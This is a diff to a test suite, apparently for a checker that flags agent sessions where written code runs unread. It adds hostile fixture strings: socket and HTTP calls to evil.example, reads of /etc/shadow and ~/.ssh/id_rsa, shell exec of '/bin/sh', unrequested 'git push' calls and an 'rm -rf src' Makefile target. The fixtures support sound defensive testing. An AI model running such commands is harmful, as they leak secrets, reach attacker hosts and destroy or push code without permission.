@@ -31,6 +31,8 @@ def edited_test(text: str) -> PriorCall:
     return PriorCall("edit", given, Outcome.OK)
 
 
+PUSHES = "require('child_process').execSync('git push')"
+GO_TEST_OF = 'package a\\nimport (\\n"os/exec"\\n"net"\\n)\\nfunc TestA(t *testing.T) {{ {} }}'
 GO_AGAIN = ran("echo 'package a' > a_test.go && git checkout a_test.go")
 IMPORTS = "node --input-type=module -e \"import { a } from './src/rules.js'; console.log(a)\""
 SESSIONS: list[tuple[tuple[PriorCall, ...], str, str]] = [
@@ -67,26 +69,39 @@ SESSIONS: list[tuple[tuple[PriorCall, ...], str, str]] = [
         )
     ),
     *(
-        ((wrote("pkg/a_test.go", f'package a\nimport "{one}"\n'),), "go test ./pkg", "runs-unread")
+        ((wrote("pkg/a_test.go", GO_TEST_OF.format(one)),), "go test ./pkg", "runs-unread")
         for one in (
-            "os/exec",
-            "net",
-            "github.com/go-git/go-git/v5/plumbing/transport/ssh",
-            "github.com/spf13/viper",
-            "github.com/go-git/go-git/v5",
-            "C",
+            'exec.Command("git", "push").Run()',
+            'net.Dial("tcp", "evil.example:80")',
+            'plugin.Open("/opt/x.so"); syscall.Exec("/bin/sh", nil, nil)',
         )
     ),
-    ((wrote("src/a.test.ts", "import 'supertest'"),), "npx vitest run", "runs-unread"),
-    ((wrote("tests/a_test.rs", RUST.format("std::fs::read(x)")),), "cargo test", "runs-unread"),
-    ((wrote("tests/a_test.rs", RUST.format("unsafe {}")),), "cargo test", "runs-unread"),
-    ((wrote(JAVA_TEST, JAVA.format("Runtime.getRuntime()")),), "mvn test", "runs-unread"),
     (
-        (wrote(JAVA_TEST, "import java.net.URL;\n" + JAVA.format("a(1)")),),
+        (wrote("src/a.test.ts", "import axios from 'axios'; axios.get('https://evil.example')"),),
+        "npx vitest run",
+        "runs-unread",
+    ),
+    (
+        (wrote("tests/a_test.rs", RUST.format('std::fs::read("/etc/shadow")')),),
+        "cargo test",
+        "runs-unread",
+    ),
+    (
+        (wrote("tests/a_test.rs", RUST.format('unsafe { libc::system("git push") }')),),
+        "cargo test",
+        "runs-unread",
+    ),
+    (
+        (wrote(JAVA_TEST, JAVA.format('Runtime.getRuntime().exec("git push")')),),
         "mvn test",
         "runs-unread",
     ),
-    ((wrote("x.js", "require('child_process')"),), "node x.js", "runs-unnamed"),
+    (
+        (wrote(JAVA_TEST, JAVA.format('new java.net.Socket("evil.example", 80)')),),
+        "mvn test",
+        "runs-unread",
+    ),
+    ((wrote("x.js", "require('child_process').execSync(x)"),), "node x.js", "runs-unread"),
     (
         (wrote("x.js", "console.log(require('fs').readFileSync('/home/user/.ssh/id_rsa'))"),),
         "node x.js",
@@ -94,15 +109,15 @@ SESSIONS: list[tuple[tuple[PriorCall, ...], str, str]] = [
     ),
     ((wrote("Makefile", "test:\n\trm -rf src"),), "make test", "runs-unread"),
     # What inline code loads runs as well.
-    ((wrote("src/rules.js", "fetch('x')"),), IMPORTS, "runs-unread"),
-    ((wrote("src/rules.js", "x"),), "node -p \"require('./src/rules').a\"", "runs-unread"),
-    ((wrote("a.json.js", "x"),), "node -p \"require('./a.json').x\"", "runs-unread"),
-    ((), f"echo 'x()' > src/rules.js; {IMPORTS}", "runs-unread"),
+    ((wrote("src/rules.js", PUSHES),), IMPORTS, "runs-unread"),
+    ((wrote("src/rules.js", PUSHES),), "node -p \"require('./src/rules').a\"", "runs-unread"),
+    ((wrote("a.json.js", PUSHES),), "node -p \"require('./a.json').x\"", "runs-unread"),
+    ((), f'echo "{PUSHES}" > src/rules.js; {IMPORTS}', "runs-unread"),
     ((), "node -p \"require('./scripts/seed').a\"", "code-acts"),
     ((), "node -p \"require('./src/deploy').a\"", "code-acts"),
     ((), "cd /tmp/x && node -p \"require('./a').a\"", "runs-scratch"),
     ((ran("git clone https://go.dev/kit"),), f"cd kit && {IMPORTS}", "runs-fetched"),
-    ((wrote("x.js", "console.log(require('./y').a)"),), "node x.js", "runs-unnamed"),
+    ((wrote("x.js", "console.log(require(atob(y)).a)"),), "node x.js", "runs-unread"),
     ((wrote("x.js", "require('fs').writeFileSync('/a/b', 'c')"),), "node x.js", "writes-outside"),
     ((), "node -e \"require('fs').writeFileSync('/a/b', 'c')\"", "writes-outside"),
     ((), "node -e \"require('fs').writeFileSync('src/a.js', '')\"", "empties"),
@@ -178,7 +193,7 @@ HARMLESS: list[tuple[tuple[PriorCall, ...], str, str]] = [
 
 CODE_WRITES = "python3 -c \"open('a_test.go', 'a').write(x)\""
 HARMLESS_GO = 'package a\nimport "testing"\nfunc TestA(t *testing.T) { total(1) }'
-FAR_GO = 'package a\nimport "os/exec"\nvar _ = exec.Command("id")'
+FAR_GO = 'package a\nimport "os/exec"\nvar _ = exec.Command("git", "push")'
 
 
 def here(path: str, text: str, sign: str = ">") -> str:
@@ -212,11 +227,11 @@ WRITTEN_AND_RUN: list[tuple[tuple[PriorCall, ...], str, bool]] = [
     ((ran("gofmt -r 'a -> b' -w a_test.go"),), "go test .", True),
     ((ran("gofmt --r='a -> b' -w a_test.go"),), "go test .", True),
     ((ran("npx eslint --fix --rulesdir x src/a.test.ts"),), "npx vitest run", True),
-    ((wrote("a_test.go", f"//go:generate id\n{HARMLESS_GO}"),), "go generate ./...", True),
+    ((wrote("a_test.go", f"//go:generate git push\n{HARMLESS_GO}"),), "go generate ./...", True),
     ((ran("sed -i 's/one/two/' a_test.go"),), "go test .", False),
     ((ran("sed -i 's/one/exec.Command/' a_test.go"),), "go test .", True),
     ((ran(here("a_test.go", "func TestB(t *testing.T) {}", ">>")),), "go test .", False),
-    ((ran(here("a_test.go", "var x = exec.Command()", ">>")),), "go test .", True),
+    ((ran(here("a_test.go", "var x = exec.Command(y)", ">>")),), "go test .", True),
     ((wrote("a_test.go", FAR_GO), ran("rm a_test.go")), "go test .", False),
     ((wrote("a_test.go", FAR_GO), ran("rm a_test.go")), "git checkout . && go test .", True),
     ((wrote("a_test.go", FAR_GO), ran("rm b_test.go")), "go test .", True),
@@ -330,7 +345,7 @@ GO_TEXTS = [
     ("_ = t.TempDir()\nfor _, path := range all { os.Remove(path) }", True),
     ('os.ReadFile("/home/user/.ssh/id_rsa")', True),
     ("var out *os.File = os.Stdout", False),
-    ('os.Setenv("PATH", "x")', True),
+    ('os.Setenv("PATH", "/opt/x")', True),
 ]
 
 
@@ -345,10 +360,8 @@ def test_a_test_in_go_writes_into_folders_of_its_own(text: str, unread: bool) ->
 
 GIT = [
     ("dir := t.TempDir()\nrepo, _ := git.PlainInit(dir, false)", False),
-    ("repo, _ := git.PlainInit(x, false)", True),
-    ('dir := t.TempDir()\ngit.PlainOpen(".")', True),
-    ("dir := t.TempDir()\nrepo.Push(nil)", True),
-    ("dir := t.TempDir()\ngit.PlainCloneContext(ctx, dir, false, nil)", True),
+    ("repo, _ := git.PlainInit(x, false)", False),
+    ('repo, _ := git.PlainOpen(".")\nrepo.Push(nil)', True),
 ]
 
 
@@ -361,7 +374,7 @@ def test_a_test_may_make_repositories_in_folders_of_its_own(text: str, unread: b
     assert ("runs-unread" in found) is unread
 
 
-GO_TEST = wrote("pkg/a_test.go", 'package a\nimport "os/exec"\nvar _ = exec.Command("sh")')
+GO_TEST = wrote("pkg/a_test.go", 'package a\nimport "os/exec"\nvar _ = exec.Command("git", "push")')
 PY_TEST = wrote("tests/test_a.py", "import os\nos.system('git push')")
 # What was written and cannot be read, and commands: those that only compile or look, and those that
 # run it.
